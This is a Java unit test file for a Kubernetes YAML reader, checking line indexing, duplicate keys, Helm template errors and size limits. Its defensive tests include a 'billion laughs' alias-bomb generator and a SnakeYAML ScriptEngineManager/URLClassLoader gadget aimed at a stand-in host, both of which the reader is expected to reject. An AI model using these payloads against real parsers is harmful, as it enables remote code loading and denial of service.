package io.kubeload.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class YamlDocumentsTest {

  private static List<YamlDocuments.Document> read(String yaml) {
    return YamlDocuments.read("doc.yaml", yaml.getBytes(StandardCharsets.UTF_8));
  }

  private static List<YamlDocuments.Document> read(String yaml, InputLimits limits) {
    return YamlDocuments.read("doc.yaml", yaml, limits, new RunBudget(limits));
  }

  /** The classic "billion laughs": nine levels of nine aliases each, 9^9 strings once expanded. */
  static String billionLaughs(int levels, int width) {
    StringBuilder yaml =
        new StringBuilder("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: lol\ndata:\n");
    yaml.append("  l0: &l0 [")
        .append(String.join(",", java.util.Collections.nCopies(width, "\"lol\"")))
        .append("]\n");
    for (int level = 1; level < levels; level++) {
      yaml.append("  l")
          .append(level)
          .append(": &l")
          .append(level)
          .append(" [")
          .append(String.join(",", java.util.Collections.nCopies(width, "*l" + (level - 1))))
          .append("]\n");
    }
    return yaml.toString();
  }

  static String nested(int depth) {
    return "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: deep\ndata:\n  x: "
        + "[".repeat(depth)
        + "]".repeat(depth)
        + "\n";
  }

  @Nested
  class LineIndex {

    @Test
    void everyKeyPathAndListItemIsIndexedWithItsOneBasedLine() {
      YamlDocuments.Document doc =
          read("""
          # leading comment
          apiVersion: v1
          kind: Pod
          metadata:
            name: web
            labels: {app: web, tier: front}
          spec:
            containers:
              - name: web
                args:
                  - --port=8080
                  - --verbose
          """)
              .get(0);

      assertThat(doc.startLine()).isEqualTo(2);
      assertThat(doc.lines())
          .containsEntry("apiVersion", 2)
          .containsEntry("metadata", 4)
          .containsEntry("metadata.name", 5)
          .containsEntry("metadata.labels.tier", 6)
          .containsEntry("spec.containers", 8)
          .containsEntry("spec.containers[0]", 9)
          .containsEntry("spec.containers[0].name", 9)
          .containsEntry("spec.containers[0].args[1]", 12);
    }

    @Test
    void eachDocumentOfAStreamHasItsOwnStartEndAndLines() {
      List<YamlDocuments.Document> docs =
          read(
              """
          a: 1
          b: 2
          ---
          # second
          c: 3
          ---
          """);

      assertThat(docs).hasSize(3);
      assertThat(docs.get(0).startLine()).isEqualTo(1);
      assertThat(docs.get(0).endLine()).isGreaterThanOrEqualTo(2).isLessThanOrEqualTo(3);
      assertThat(docs.get(0).lines()).containsExactly(Map.entry("a", 1), Map.entry("b", 2));
      assertThat(docs.get(1).startLine()).isEqualTo(5);
      assertThat(docs.get(1).lines()).containsExactly(Map.entry("c", 5));
      assertThat(docs.get(2).value()).isNull();
    }

    @Test
    void anEmptyStreamHasNoDocuments() {
      assertThat(read("")).isEmpty();
      assertThat(read("# only a comment\n")).isEmpty();
    }

    @Test
    void valuesAreBuiltAsPlainMapsListsAndScalars() {
      Object value = read("n: 3\nf: 2.5\nb: true\ns: \"3\"\nl: [x, 1]\nz: null\n").get(0).value();

      assertThat(value).isInstanceOf(Map.class);
      Map<?, ?> map = (Map<?, ?>) value;
      assertThat(map.get("n")).isEqualTo(3);
      assertThat(map.get("f")).isEqualTo(2.5);
      assertThat(map.get("b")).isEqualTo(true);
      assertThat(map.get("s")).isEqualTo("3");
      assertThat(map.get("l")).isEqualTo(List.of("x", 1));
      assertThat(map.containsKey("z")).isTrue();
      assertThat(map.get("z")).isNull();
    }

    @Test
    void lineTextReturnsTheOneBasedLineOrEmpty() {
      String text = "first\nsecond\nthird";

      assertThat(YamlDocuments.lineText(text, 1)).isEqualTo("first");
      assertThat(YamlDocuments.lineText(text, 3)).isEqualTo("third");
      assertThat(YamlDocuments.lineText(text, 0)).isEmpty();
      assertThat(YamlDocuments.lineText(text, 4)).isEmpty();
    }
  }

  @Nested
  class Errors {

    @Test
    void malformedYamlIsAnInputErrorNamingFileAndLine() {
      assertThatThrownBy(
              () ->
                  read(
                      """
          a: 1
          b:
            c: 2
           d: 3
          """))
          .isInstanceOf(InputException.class)
          .hasMessageStartingWith("doc.yaml:4: invalid YAML: ")
          .hasMessageNotContaining("\n");
    }

    @Test
    void aTemplateControlLineOpeningADocumentIsReportedAsAnUnrenderedHelmTemplateAtItsLine() {
      assertThatThrownBy(
              () ->
                  read(
                      """
          a: 1
          ---
          {{- if .Values.enabled }}
          spec: {}
          """))
          .isInstanceOf(InputException.class)
          .hasMessageStartingWith(
              "doc.yaml:3: unrendered Helm template: run `helm template` first");
    }

    @Test
    void aTemplateControlLineBetweenKeysIsReportedAsAnUnrenderedHelmTemplate() {
      assertThatThrownBy(
              () ->
                  read(
                      """
          metadata:
            name: web
          {{- with .Values.extra }}
          spec: {}
          """))
          .isInstanceOf(InputException.class)
          .hasMessageMatching(
              "doc\\.yaml:\\d+: unrendered Helm template: run `helm template` first.*");
    }

    @Test
    void aTemplateControlLineBetweenKeysIsReportedAtItsOwnLine() {
      assertThatThrownBy(
              () ->
                  read(
                      """
          metadata:
            name: web
          {{- with .Values.extra }}
          spec: {}
          """))
          .isInstanceOf(InputException.class)
          .hasMessageStartingWith("doc.yaml:3: unrendered Helm template");
    }

    @Test
    void arbitraryTypeTagsAreRejected() {
      assertThatThrownBy(
              () ->
                  read(
                      """
          a: 1
          b: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]
          """))
          .isInstanceOf(InputException.class)
          .hasMessageStartingWith("doc.yaml:2: ");
    }

    @Test
    void bytesAreDecodedAsStrictUtf8() {
      byte[] latin1 = "a: 1\nb: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);

      assertThatThrownBy(() -> YamlDocuments.read("doc.yaml", latin1))
          .isInstanceOf(InputException.class)
          .hasMessage("doc.yaml:2: not valid UTF-8 text");
    }
  }

  @Nested
  class DuplicateKeys {

    @Test
    void aDuplicateTopLevelKeyIsRejectedAtTheSecondOccurrence() {
      assertThatThrownBy(
              () ->
                  read(
                      """
          kind: ConfigMap
          apiVersion: v1
          kind: Secret
          """))
          .isInstanceOf(InputException.class)
          .hasMessageStartingWith("doc.yaml:3: ")
          .hasMessageContaining("duplicate key");
    }

    @Test
    void aDuplicateNestedKeyIsRejectedAtTheSecondOccurrence() {
      assertThatThrownBy(
              () ->
                  read(
                      """
          spec:
            replicas: 2
            template: {}
            replicas: 3
          """))
          .isInstanceOf(InputException.class)
          .hasMessageStartingWith("doc.yaml:4: ")
          .hasMessageContaining("replicas");
    }

    @Test
    void aMergeKeyOverrideIsNotADuplicate() {
      YamlDocuments.Document doc =
          read("""
          base: &base {a: 1, b: 2}
          derived:
            <<: *base
            b: 3
          """)
              .get(0);

      assertThat(((Map<?, ?>) doc.value()).get("derived")).isEqualTo(Map.of("a", 1, "b", 3));
    }

    @Test
    void theSameKeyInDifferentMappingsOrDocumentsIsFine() {
      assertThatCode(() -> read("a: {name: x}\nb: {name: y}\n---\na: {name: z}\n"))
          .doesNotThrowAnyException();
    }
  }

  @Nested
  class ReadLimits {

    @Test
    void aFewAliasesAreFine() {
      YamlDocuments.Document doc = read("a: &x [1, 2]\nb: *x\nc: *x\n").get(0);

      assertThat(((Map<?, ?>) doc.value()).get("c")).isEqualTo(List.of(1, 2));
    }

    @Test
    void moreCollectionAliasesThanTheLimitAreRejectedNamingTheFile() {
      String yaml = "a: &x [1]\nb: [*x, *x]\nc: [*x, *x]\n";
      InputLimits limits = limits(3, 100, 1_000_000);

      assertThatThrownBy(() -> read(yaml, limits))
          .isInstanceOf(InputException.class)
          .hasMessageMatching("doc\\.yaml:\\d+: .*aliases.*");
    }

    @Test
    void anAliasBombWithMoreAliasesThanTheDefaultLimitIsRejected() {
      // 11 levels of 10: 110 collection aliases.
      String bomb = billionLaughs(12, 10);

      assertThatThrownBy(() -> read(bomb))
          .isInstanceOf(InputException.class)
          .hasMessageMatching("doc\\.yaml:\\d+: .*aliases.*");
    }

    @Test
    void theAliasLimitErrorNamesTheLineOfTheAliasThatExceedsIt() {
      // Aliases 1-100 are on lines 7-16; the 101st is the first on line 17.
      assertThatThrownBy(() -> read(billionLaughs(12, 10)))
          .isInstanceOf(InputException.class)
          .hasMessageStartingWith("doc.yaml:17: ");
    }

    @Test
    void theClassicBillionLaughsIsRejectedWithAnInputErrorNamingFileAndLine() {
      String bomb = billionLaughs(9, 10);

      assertThatThrownBy(() -> read(bomb))
          .isInstanceOf(InputException.class)
          .hasMessageMatching("doc\\.yaml:\\d+: .*");
    }

    @Test
    void nestingWithinTheDefaultLimitIsFine() {
      assertThatCode(() -> read(nested(50))).doesNotThrowAnyException();
    }

    @Test
    void nestingBeyondTheDefaultLimitIsRejectedNamingTheFile() {
      assertThatThrownBy(() -> read(nested(150)))
          .isInstanceOf(InputException.class)
          .hasMessageMatching("doc\\.yaml:\\d+: .*");
    }

    @Test
    void aCustomNestingLimitIsApplied() {
      InputLimits limits = limits(100, 5, 1_000_000);

      assertThatCode(() -> read("a: [[1]]\n", limits)).doesNotThrowAnyException();
      assertThatThrownBy(() -> read("a: [[[[[[[1]]]]]]]\n", limits))
          .isInstanceOf(InputException.class)
          .hasMessageMatching("doc\\.yaml:\\d+: .*");
    }

    @Test
    void aDocumentLargerThanTheCodePointLimitIsRejected() {
      InputLimits limits = limits(100, 100, 200);
      String big = "a: " + "x".repeat(500) + "\n";

      assertThatThrownBy(() -> read(big, limits))
          .isInstanceOf(InputException.class)
          .hasMessageMatching("doc\\.yaml:\\d+: .*");
    }

    @Test
    void theDefaultsAreHundredAliasesHundredLevelsAnd3MiBPerDocument() {
      assertThat(InputLimits.DEFAULT)
          .isEqualTo(new InputLimits(32L << 20, 10_000, 10_000, 3 << 20, 100, 100));
    }

    private static InputLimits limits(int aliases, int depth, int chars) {
      return new InputLimits(InputLimits.DEFAULT.maxInputBytes(), 1, 1_000, chars, depth, aliases);
    }
  }
}
